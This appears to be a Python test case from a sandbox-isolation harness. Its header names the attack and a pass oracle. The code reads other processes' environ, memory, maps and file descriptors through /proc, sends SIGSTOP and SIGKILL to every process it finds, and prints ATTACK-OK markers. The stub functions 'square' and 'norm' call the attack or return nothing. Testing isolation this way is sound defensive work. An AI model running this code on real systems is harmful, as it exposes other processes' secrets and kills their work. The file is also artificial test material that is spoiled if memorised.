# ATTACK: reads what /proc shows of other processes, their memory and files, and sends them signals
# KIND: cell
# SAFE: nothing of another process can be read or stopped
# HONEST_SCORE: 0/10
# MAY_FAIL: yes
# ORACLE: score; no ATTACK-OK:x15
import glob
import os
import signal

def look():
    for place in glob.glob("/proc/[0-9]*"):
        if int(place[6:]) == os.getpid():
            continue
        for what in ("environ", "mem", "maps", "fd", "cwd", "root", "task"):
            path = f"{place}/{what}"
            try:
                found = os.listdir(path + "/") if what in ("fd", "cwd", "root") else open(path, "rb").read(1 << 16)
            except OSError:
                continue
            if what in ("environ", "mem", "fd") or b"CANARY" in str(found).encode():
                print("ATTACK-OK:" + "x15:", path)
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(int(place[6:]), number)
                print("ATTACK-OK:" + "x15: signal", place)
            except OSError:
                pass

look()

def square(x):
    look()
    return None

def norm(v):
    return None
